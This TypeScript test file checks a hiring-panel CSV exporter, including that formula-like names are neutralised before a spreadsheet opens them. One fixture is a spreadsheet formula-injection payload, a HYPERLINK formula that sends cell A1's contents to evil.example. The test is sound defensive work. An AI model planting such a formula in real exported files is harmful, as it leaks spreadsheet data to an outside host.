import { describe, expect, it } from 'vitest';
import type { HiringRound } from '../../src/domain/panel/panel.ts';
import { buildRound, submittedScorecard } from '../builders/panel.ts';
import { panelCsv } from '../../src/domain/panel/panel-csv.ts';
import { panelResults } from '../../src/domain/panel/panel-results.ts';
import { setConsensus } from '../../src/domain/panel/chair.ts';
import { NOT_OBSERVED } from '../../src/domain/panel/round.ts';
import { shippedFramework as fw } from './shipped-framework.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

const round: HiringRound = buildRound({
  candidates: ['Ada Lovelace', HYPERLINK],
  panelists: [
    { name: 'Alan Turing', role: 'Superintendent' },
    { name: 'Hopper, Grace', role: 'Board member' },
    { name: '@SUM(A1:A9)', role: 'Principal' },
  ],
  skillAreaIds: ['1', 'CV1'],
  weights: { '1': 2 },
});

const cards = [
  submittedScorecard(round, 'p1', { c1: { '1': { level: 'proficient', note: 'Clear vision' }, CV1: { level: 'leading' } }, c2: { '1': { level: 'developing' } } }),
  submittedScorecard(round, 'p2', { c1: { '1': { level: 'emerging' } } }),
];

const csv = panelCsv(fw, round, panelResults(fw, round, cards, { onlySubmitted: true }));
const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
const neutralised = `"'${HYPERLINK.replaceAll('"', '""')}"`;

describe('panelCsv', () => {
  it('starts with a UTF-8 BOM and ends every line, the last included, with CRLF', () => {
    expect(csv.startsWith('\uFEFFCandidate,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('has a header naming every panelist, in panel order, made safe for spreadsheets', () => {
    expect(lines[0]).toBe(`Candidate,Skill area,Weight,Alan Turing,"Hopper, Grace",'@SUM(A1:A9),Mean,Median,Spread,Panel disagrees,Consensus`);
  });

  it('has one row per candidate and covered skill area, in round order, with each panelist’s value, mean, median, spread and flag', () => {
    expect(lines.slice(1, 5)).toEqual([
      'Ada Lovelace,Leadership and Vision,2,3,1,,2.00,2.00,2,yes,',
      'Ada Lovelace,Communicator,1,4,,,4.00,4.00,0,,',
      `${neutralised},Leadership and Vision,2,2,,,2.00,2.00,0,,`,
      `${neutralised},Communicator,1,,,,,,,,`,
    ]);
  });

  it('ends with a totals block after a blank line: weighted score, rank, areas and panelists per candidate', () => {
    expect(lines.slice(5)).toEqual([
      '',
      'Candidate,Weighted score,Lowest panelist total,Highest panelist total,Rank,Skill areas scored,Panelists who scored,Too close to separate from',
      // Ada: (mean 2 × weight 2 + mean 4 × weight 1) / 3; Alan (3×2 + 4)/3 = 3.33, Edsger 1. Ada's total 2.67 is not in the other's 2–2.
      'Ada Lovelace,2.67,1.00,3.33,1,2,2,',
      `${neutralised},2.00,2.00,2.00,2,1,1,`,
      '',
    ]);
  });

  it('neutralises a candidate named as a formula, so a spreadsheet shows the name instead of running it', () => {
    const cells = lines.filter((line) => line.includes('HYPERLINK'));
    expect(cells).toHaveLength(3);
    for (const line of cells) {
      expect(line.startsWith(`"'=HYPERLINK(`)).toBe(true);
      expect(line).not.toMatch(/(^|,)=/);
    }
  });

  it('marks "not observed" as n/o, outside every figure, and puts the consensus beside the independent scores', () => {
    const withConsensus = setConsensus(round, 'c1', 'CV1', { level: 'proficient' }, '2024-05-02T00:00:00.000Z');
    const cards2 = [...cards.slice(0, 1), submittedScorecard(round, 'p2', { c1: { '1': { level: 'emerging' }, CV1: { level: NOT_OBSERVED } } })];
    const rows = panelCsv(fw, withConsensus, panelResults(fw, withConsensus, cards2, { onlySubmitted: true })).split('\r\n');
    expect(rows[2]).toBe('Ada Lovelace,Communicator,1,4,n/o,,4.00,4.00,0,,3');
  });

  it('leaves notes out of the file', () => {
    expect(csv).not.toContain('Clear vision');
  });

  it('lists every candidate with blank figures when nobody has scored', () => {
    const empty = panelCsv(fw, round, panelResults(fw, round, []));
    expect(empty.replace(/^\uFEFF/, '').split('\r\n').slice(-3)).toEqual(['Ada Lovelace,,,,,0,0,', `${neutralised},,,,,0,0,`, '']);
  });
});
